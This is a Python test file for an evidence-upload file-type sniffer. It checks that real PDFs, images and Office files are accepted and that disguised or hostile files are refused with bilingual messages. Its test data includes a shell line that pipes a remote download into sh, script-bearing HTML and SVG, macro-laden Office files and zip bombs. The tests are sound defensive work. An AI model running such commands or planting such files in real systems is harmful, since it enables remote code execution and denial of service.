"""Evidence files are typed by their bytes (core.filetypes.sniff): one tiny file per quirk, built in code.

Taken: PDF, JPEG, PNG, .docx and .xlsx, whatever their names say. Refused, each with its
own code and a sentence naming the file: web pages and SVG, scripts, programs, archives,
macro-enabled and old OLE2 Office files, empty and oversized files, and Word or Excel
files beyond the loaders' unpacking limits (the crafted workbooks of tests/data/hostile).
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pytest
from PIL import Image

from core.filetypes import DOCX, JPEG, PDF, PNG, XLSX, FileRefused, download_name, shown_size, sniff
from core.settings import EvidenceLimits
from i18n.messages import describe, show
from tests.data.make_docx import bomb as word_bomb

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"


# ---------------------------------------------------------------- honest files


def pdf_bytes() -> bytes:
    """A real one-page PDF: header, four objects, a cross-reference table with true offsets, trailer."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length 0 >>\nstream\n\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def png_bytes() -> bytes:
    """A real 1×1 PNG, chunk by chunk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1×1, 8 bits, RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")  # filter byte, one red pixel
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Biên bản họp rà soát thủ tục hành chính")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Mã", "Kết quả"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("build", "name", "kind"),
    [
        (pdf_bytes, "bien-ban.pdf", PDF),
        (png_bytes, "niem-yet.png", PNG),
        (jpeg_bytes, "anh-hop.jpg", JPEG),
        (docx_bytes, "bien-ban.docx", DOCX),
        (xlsx_bytes, "so-lieu.xlsx", XLSX),
    ],
)
def test_each_kind_taken_is_known_by_its_content(build, name, kind):
    assert sniff(build(), name) == kind


def test_a_name_that_disagrees_with_the_content_does_not_decide():
    assert sniff(pdf_bytes(), "anh-chup.png") == PDF
    assert sniff(png_bytes(), "bao-cao.pdf") == PNG
    assert sniff(docx_bytes(), "so-lieu.xlsx") == DOCX
    assert sniff(xlsx_bytes(), "khong-ten") == XLSX


def test_a_download_ends_as_its_content_is():
    assert download_name("anh-chup.png", PDF) == "anh-chup.pdf"
    assert download_name("Anh Hop.JPG", JPEG) == "Anh Hop.JPG"
    assert download_name("anh.jpeg", JPEG) == "anh.jpeg"
    assert download_name("bien-ban", DOCX) == "bien-ban.docx"
    assert download_name("../../trang.html", PNG) == "trang.png"


# ---------------------------------------------------------------- refused, each for what it is


def refused(content: bytes, name: str = "minh-chung.pdf", limits: EvidenceLimits | None = None) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        sniff(content, name, limits)
    return caught.value


def macro_docx() -> bytes:
    parts = zip_parts(docx_bytes())
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA"
    return zipped(parts)


def macro_enabled_xlsx() -> bytes:
    """No VBA part at all: only the workbook's content type says macro-enabled (an .xlsm renamed)."""
    parts = zip_parts(xlsx_bytes())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    return zipped(parts)


def excel4_macro_sheet() -> bytes:
    parts = zip_parts(xlsx_bytes())
    parts["xl/macrosheets/sheet1.xml"] = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="urn:x"/>'
    return zipped(parts)


def plain_zip() -> bytes:
    return zipped({"bao-cao.pdf": pdf_bytes(), "ghi-chu.txt": "ảnh kèm theo".encode()})


CASES = [
    # (what, bytes, the name it is sent under, code, format)
    ("html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "bao-cao.pdf", "evidence-html",
     "HTML"),
    ("html after blanks and a BOM", b"\xef\xbb\xbf\n  <html><body>x</body></html>", "a.pdf", "evidence-html", "HTML"),
    ("html in UTF-16", "<html><script>x</script></html>".encode("utf-16"), "a.pdf", "evidence-html", "HTML"),
    ("svg with a script", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
     "logo.png", "evidence-html", "SVG"),
    ("xml", b'<?xml version="1.0"?><data><row>1</row></data>', "so-lieu.xlsx", "evidence-html", "XML"),
    ("windows program", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200), "quyet-dinh.pdf", "evidence-program",
     "PE/Windows"),
    ("linux program", b"\x7fELF\x02\x01\x01" + bytes(100), "bao-cao.pdf", "evidence-program", "ELF/Linux"),
    ("macOS program", b"\xcf\xfa\xed\xfe" + bytes(100), "bao-cao.pdf", "evidence-program", "Mach-O/macOS"),
    ("shebang script", b"#!/bin/sh\ncurl http://x | sh\n", "bao-cao.pdf", "evidence-script", None),
    ("plain zip", plain_zip(), "ho-so.zip", "evidence-archive", "zip"),
    ("zip named .docx", plain_zip(), "bien-ban.docx", "evidence-archive", "zip"),
    ("gzip", gzip.compress(b"x" * 100), "a.pdf", "evidence-archive", "gzip"),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(50), "a.pdf", "evidence-archive", "RAR"),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(50), "a.pdf", "evidence-archive", "7z"),
    ("docx with VBA", macro_docx(), "bien-ban.docx", "evidence-macros", DOCX),
    ("xlsm renamed .xlsx", macro_enabled_xlsx(), "so-lieu.xlsx", "evidence-macros", XLSX),
    ("Excel 4 macro sheet", excel4_macro_sheet(), "so-lieu.xlsx", "evidence-macros", XLSX),
    ("OLE2 .doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "bien-ban.doc", "evidence-old-office", None),
    ("plain text", "Biên bản họp".encode(), "bien-ban.pdf", "evidence-unknown-type", None),
    ("a truncated PDF header", b"%PD", "a.pdf", "evidence-unknown-type", None),
]  # fmt: skip


@pytest.mark.parametrize(("what", "content", "name", "code", "found"), CASES, ids=[case[0] for case in CASES])
def test_what_is_not_a_document_is_refused_for_what_it_is(what, content, name, code, found):
    error = refused(content, name)
    assert error.code == code
    assert error.params["file"] == name
    assert error.params.get("format") == found
    assert name in describe(error, "vi") and name in describe(error, "en")


def test_an_empty_file_is_refused():
    error = refused(b"", "bien-ban.pdf")
    assert (error.code, error.params) == ("evidence-empty", {"file": "bien-ban.pdf"})
    assert str(error) == "Tệp bien-ban.pdf rỗng (0 byte): không có gì để lưu."


def test_a_file_over_the_limit_is_refused_with_both_sizes():
    limits = EvidenceLimits(max_file_bytes=1024 * 1024)
    content = pdf_bytes() + bytes(1024 * 1024 + 200_000)
    error = refused(content, "scan.pdf", limits)
    assert error.code == "evidence-too-large"
    assert str(error) == "Tệp scan.pdf nặng 1,2 MB, vượt giới hạn 1,0 MB của một tệp kiểm chứng."
    assert describe(error, "en") == "The file scan.pdf is 1.2 MB, over the limit of 1.0 MB for one evidence file."
    assert sniff(pdf_bytes(), "scan.pdf", limits) == PDF


def test_the_size_limit_comes_from_the_environment(monkeypatch):
    monkeypatch.setenv("CCHC_EVIDENCE_MAX_FILE_MB", "1")
    monkeypatch.setenv("CCHC_EVIDENCE_MAX_YEAR_MB", "3")
    assert EvidenceLimits.from_env() == EvidenceLimits(max_file_bytes=1024 * 1024, max_year_bytes=3 * 1024 * 1024)
    assert refused(pdf_bytes() + bytes(1024 * 1024)).code == "evidence-too-large"
    monkeypatch.delenv("CCHC_EVIDENCE_MAX_FILE_MB")
    monkeypatch.delenv("CCHC_EVIDENCE_MAX_YEAR_MB")
    assert EvidenceLimits.from_env() == EvidenceLimits(20 * 1024 * 1024, 200 * 1024 * 1024)


def test_a_disguised_page_is_explained_in_both_languages():
    error = refused(b"<html><script>alert(1)</script></html>", "bao-cao.pdf")
    assert str(error) == (
        "Tệp bao-cao.pdf là trang web hoặc tệp đánh dấu (HTML), không phải tài liệu: không nhận,"
        " vì mở ra có thể chạy mã lệnh. Hãy gửi bản PDF hoặc ảnh chụp."
    )
    assert describe(error, "en").startswith("The file bao-cao.pdf is a web page or markup (HTML), not a document")


def test_an_old_office_file_is_told_to_be_saved_again():
    error = refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "so-lieu.xls")
    assert "lưu lại thành .docx, .xlsx hoặc PDF" in str(error)
    assert "save it as .docx, .xlsx or PDF" in describe(error, "en")


# ---------------------------------------------------------------- Word and Excel within the loaders' limits


def test_a_word_zip_bomb_is_refused_with_its_ratio():
    error = refused(word_bomb(), "bien-ban.docx")
    assert error.code == "evidence-zip-bomb"
    assert error.params["detail"]["key"] == "problem.zip-ratio"
    assert error.params["detail"]["params"]["ratio"] > 200
    assert str(error).startswith(
        "Tệp bien-ban.docx (Word, Excel là tệp nén) vượt giới hạn giải nén: Tệp nén bất thường (tỷ lệ giải nén"
    )


def test_an_excel_zip_bomb_is_refused_before_it_is_unpacked():
    parts = zip_parts(xlsx_bytes())
    parts["xl/worksheets/sheet1.xml"] = b"0" * 50_000_000  # unpacks 50 MB from some 50 KB
    error = refused(zipped(parts), "so-lieu.xlsx")
    assert (error.code, error.params["detail"]["key"]) == ("evidence-zip-bomb", "problem.zip-ratio")


@pytest.mark.parametrize(
    ("name", "why"),
    [(p.name, "problem.xml-entities" if p.name.startswith("dtd") else "problem.sheet-too-large")
     for p in sorted(HOSTILE.glob("*.xlsx"))],
)  # fmt: skip
def test_the_loaders_hostile_workbooks_are_refused_as_evidence_too(name, why):
    error = refused((HOSTILE / name).read_bytes(), name)
    assert (error.code, error.params["detail"]["key"]) == ("evidence-zip-bomb", why)


def test_a_truncated_word_file_is_corrupt():
    content = docx_bytes()
    error = refused(content[: len(content) // 2], "bien-ban.docx")
    assert error.code == "evidence-corrupt"
    assert "bị hỏng hoặc không trọn vẹn" in str(error)


def test_sizes_are_shown_in_kilobytes_below_a_megabyte():
    assert [show(shown_size(size), "vi") for size in (10, 1536, 900_000, 5 * 1024 * 1024 + 200_000)] == [
        "1 KB",
        "2 KB",
        "879 KB",
        "5,2 MB",
    ]
    assert show(shown_size(5 * 1024 * 1024 + 200_000), "en") == "5.2 MB"
